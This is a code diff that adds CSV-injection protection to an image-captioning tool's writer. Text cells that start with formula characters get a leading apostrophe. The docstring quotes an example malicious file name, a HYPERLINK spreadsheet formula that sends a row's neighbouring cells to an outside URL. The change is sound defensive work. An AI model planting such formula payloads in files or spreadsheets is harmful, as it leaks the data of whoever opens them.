@@ -10,7 +10,9 @@ Every format is rendered from this record (`CaptionWriter.write_record`), so wha
 local loop or Ray actors, `captioner.integrations.ray_data`) writes the same bytes:
 - jsonl: the record as one JSON line.
 - csv: a header, then `path, caption, score, error`, then `alternative_2..alternative_N` (with n_best > 1) and
-  `tags` (with --tags) as `label:probability` pairs joined by `;`, e.g. `pizza:0.931;plate:0.041`.
+  `tags` (with --tags) as `label:probability` pairs joined by `;`, e.g. `pizza:0.931;plate:0.041`. A text cell
+  that starts with `=`, `+`, `-`, `@`, a tab, a carriage return or `'` gets one `'` in front (`csv_cell`), so a
+  spreadsheet shows it as text instead of running it as a formula; removing a leading `'` gives the text back.
 - text: `path<TAB>caption`, and with --tags a TAB and the tags in brackets, `[pizza 0.93, plate 0.04]`; a failed
   image is `path<TAB>ERROR reason`; with n_best > 1 one `path<TAB>  alt SCORE: text` line per alternative follows.
   A tab, newline or carriage return in a path or reason is written as `\\t`, `\\n`, `\\r` (`text_field`), so
@@ -75,10 +77,28 @@ def text_field(text: str) -> str:
     return text.translate(_TEXT_ESCAPES)
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def csv_cell(text: str) -> str:
+    """`text` as a CSV text cell: with one `'` in front when it starts with `=`, `+`, `-`, `@`, a tab, a carriage
+    return or `'` itself.
+
+    Why: the path cell holds whatever the files are called, and spreadsheets run a cell that starts with one of
+    these as a formula: a photo named `=HYPERLINK("http://...?"&A2, "open").jpg` became a link that sends the
+    row's neighbours away when the CSV was opened (OWASP, "CSV injection"); the leading `'` makes it text. A cell
+    that already starts with `'` gets another, so removing exactly one leading `'` always gives the text back.
+    Numbers (the score) are not text cells and are written as they are.
+    """
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
 def written_path(path: str | os.PathLike, fmt: str) -> str:
     """`path` as a whole written record of format `fmt` names it (what `record_key` reads back)."""
     text = escape_path(path)
-    return text_field(text) if fmt == "text" else text
+    if fmt == "text":
+        return text_field(text)
+    return csv_cell(text) if fmt == "csv" else text
 
 
 def text_clash(paths: list) -> tuple | None:
@@ -207,12 +227,13 @@ class CaptionWriter:
         alternatives = (rec.get("alternatives") or []) if self.n_best > 1 else []
         if self._csv is not None:
             score = rec["score"]
-            row = [path, rec["caption"], "" if error or score is None else f"{score:.4f}", error or ""]
+            row = [csv_cell(path), csv_cell(rec["caption"]), "" if error or score is None else f"{score:.4f}",
+                   csv_cell(error or "")]
             if self.n_best > 1:
-                alts = [a["text"] for a in alternatives[1:]]
+                alts = [csv_cell(a["text"]) for a in alternatives[1:]]
                 row += alts + [""] * (self.n_best - 1 - len(alts))
             if self.tags:
-                row.append(_tags_csv(rec.get("tags")))
+                row.append(csv_cell(_tags_csv(rec.get("tags"))))
             self._csv.writerow(row)
             return self._take()
         path = text_field(path)
